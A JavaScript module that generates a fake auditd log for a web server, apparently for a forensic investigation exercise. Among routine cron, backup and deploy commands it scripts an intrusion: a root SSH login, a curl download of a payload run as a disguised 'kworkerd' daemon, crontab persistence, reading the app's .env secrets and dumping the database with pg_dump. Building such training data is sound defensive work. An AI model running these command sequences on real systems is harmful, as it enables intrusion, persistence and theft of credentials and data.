// audit.log: the Linux audit log of the web server, as auditd writes it (several records an event).

import { LINUX_KEEP, LINUX_LOGIN, LINUX_PATH, LINUX_URL, PATIENT } from "./story.mjs";
import { moments, SERVERS } from "./world.mjs";

const hex = (text) => Buffer.from(text).toString("hex").toUpperCase();

/** A value as auditd writes it: quoted, or hexadecimal when it holds spaces or quotes. */
const value = (text) => (/^[^\s"]+$/.test(text) ? `"${text}"` : hex(text));

/** Normal commands: [weight, user id, directory, program, arguments]. */
const COMMANDS = [
  [20, 0, "/", "/usr/bin/dash", ["sh", "-c", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.hourly"]],
  [16, 33, "/var/www/portal", "/usr/bin/php8.2", ["php", "/var/www/portal/artisan", "schedule:run"]],
  [14, 0, "/", "/usr/bin/systemctl", ["systemctl", "is-active", "nginx.service"]],
  [12, 0, "/", "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"]],
  [12, 998, "/var/lib/monitor", "/usr/bin/df", ["df", "-P", "/var/lib/postgresql"]],
  [10, 998, "/var/lib/monitor", "/usr/bin/curl", ["curl", "-fsS", "http://127.0.0.1:8080/healthz"]],
  [8, 0, "/root", "/usr/bin/rsync", ["rsync", "-a", "--delete", "/var/www/portal/storage/", "backup@10.20.5.31:/srv/backup/portal/"]],
  [6, 1001, "/home/deploy", "/usr/bin/git", ["git", "-C", "/var/www/portal", "pull", "--ff-only"]],
  [5, 0, "/", "/usr/bin/apt-get", ["apt-get", "-qq", "update"]],
  [5, 1001, "/home/deploy", "/usr/bin/tail", ["tail", "-n", "200", "/var/log/nginx/access.log"]],
  [4, 0, "/etc", "/usr/bin/openssl", ["openssl", "x509", "-noout", "-enddate", "-in", "/etc/ssl/certs/portal.pem"]],
  [3, 1001, "/home/deploy", "/usr/bin/sudo", ["sudo", "systemctl", "reload", "nginx"]],
];

/** The process that starts the commands of each user id; a shell for people. */
const PARENTS = new Map([[0, 731], [33, 731], [998, 958], [1001, 2417]]);
const SHELL = 20_431; // of the attackers, a child of sshd

/** What the attackers did there, as root, seconds after the login. */
const INTRUSION = [
  [9, "/root", "/usr/bin/id", ["id"]],
  [31, "/root", "/usr/bin/mkdir", ["mkdir", "-p", "/tmp/.cache"]],
  [44, "/root", "/usr/bin/curl", ["curl", "-s", "-o", LINUX_PATH, LINUX_URL], [["url", LINUX_URL], ["linux_path", LINUX_PATH]]],
  [58, "/root", "/usr/bin/chmod", ["chmod", "755", LINUX_PATH], [["linux_path", LINUX_PATH]]],
  [75, "/root", "/tmp/.cache/kworkerd", [LINUX_PATH, "--daemon"], [["linux_path", LINUX_PATH]]],
  [112, "/root", "/usr/bin/crontab", ["crontab", "/tmp/.cache/c"]],
  [121, "/root", "/usr/bin/bash", ["bash", "-c", LINUX_KEEP]],
  [160, "/var/www/portal", "/usr/bin/cat", ["cat", "/var/www/portal/.env"], [["linux_path", "/var/www/portal/.env"]]],
  [233, "/var/www/portal", "/usr/bin/pg_dump", ["pg_dump", "-h", SERVERS.db.ip, "-U", "portal", "-f", "/tmp/.cache/p.sql"], [["ipv4", SERVERS.db.ip]]],
];

let serial; // of the next event; reset for each file

const stamp = (time) => `audit(${(time / 1000).toFixed(3)}:${serial++})`;

function execve(random, time, uid, session, directory, program, args, { pid = random.int(1000, 32000), ppid = PARENTS.get(uid) } = {}) {
  const id = stamp(time);
  const login = session ? uid : 4294967295;
  const inode = random.int(100000, 900000);
  return [
    `type=SYSCALL msg=${id}: arch=c000003e syscall=59 success=yes exit=0 a0=${random.hex(12)} a1=${random.hex(12)} a2=${random.hex(12)} a3=8 items=2 ppid=${ppid} pid=${pid} auid=${login} uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=${session ? "pts0" : "(none)"} ses=${session || 4294967295} comm=${value(program.split("/").pop().slice(0, 15))} exe="${program}" subj=unconfined key="exec"`,
    `type=EXECVE msg=${id}: argc=${args.length} ${args.map((arg, i) => `a${i}=${value(arg)}`).join(" ")}`,
    `type=CWD msg=${id}: cwd="${directory}"`,
    `type=PATH msg=${id}: item=0 name="${program}" inode=${inode} dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
    `type=PATH msg=${id}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=131411 dev=fe:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0`,
    `type=PROCTITLE msg=${id}: proctitle=${hex(args.join("\0"))}`,
  ];
}

function login(random, time, account, uid, ip, session) {
  const pid = random.int(1000, 32000);
  const exe = 'exe="/usr/sbin/sshd"';
  return [
    `type=USER_AUTH msg=${stamp(time)}: pid=${pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=pubkey acct="${account}" ${exe} hostname=? addr=${ip} terminal=ssh res=success'`,
    `type=USER_ACCT msg=${stamp(time)}: pid=${pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:accounting grantors=pam_permit acct="${account}" ${exe} hostname=${ip} addr=${ip} terminal=ssh res=success'`,
    `type=LOGIN msg=${stamp(time)}: pid=${pid} uid=0 subj=unconfined old-auid=4294967295 auid=${uid} tty=(none) old-ses=4294967295 ses=${session} res=1`,
    `type=USER_START msg=${stamp(time)}: pid=${pid} uid=0 auid=${uid} ses=${session} subj=unconfined msg='op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_env,pam_unix acct="${account}" ${exe} hostname=${ip} addr=${ip} terminal=ssh res=success'`,
  ];
}

/** Events as functions of their moment, run in order so that serial numbers rise with time. */
function plan(random) {
  const events = moments(random, 2_300, 0.7).map((time) => ({
    time,
    lines: () => {
      if (random.chance(0.04)) return login(random, time, "deploy", 1001, `10.20.10.${random.pick([107, 108])}`, random.int(100, 900));
      const [uid, directory, program, args] = random.weighted(COMMANDS.map(([weight, ...rest]) => [rest, weight]));
      return execve(random, time, uid, uid > 1000 ? random.int(100, 900) : 0, directory, program, args);
    },
  }));
  const ip = PATIENT.host.ip;
  events.push({ time: LINUX_LOGIN, plants: [["ipv4", ip]], lines: () => login(random, LINUX_LOGIN, "root", 0, ip, 417) });
  const shell = (time, uid, session, ids) => events.push({ time, lines: () => execve(random, time, uid, session, "/", "/usr/bin/bash", ["-bash"], ids) });
  shell(Math.min(...events.map(({ time }) => time)) - 1000, 1001, 118, { pid: PARENTS.get(1001), ppid: 2416 });
  shell(LINUX_LOGIN + 1318, 0, 417, { pid: SHELL, ppid: 20_418 });
  for (const [seconds, directory, program, args, plants] of INTRUSION) {
    const time = LINUX_LOGIN + seconds * 1000 + 318;
    events.push({ time, plants, lines: () => execve(random, time, 0, 417, directory, program, args, { ppid: SHELL }) });
  }
  return events.sort((a, b) => a.time - b.time);
}

export function audit(random) {
  serial = 481_220;
  const records = plan(random).map(({ time, plants, lines }) => ({ time, plants, line: lines().join("\n") }));
  return { name: "audit.log", records };
}
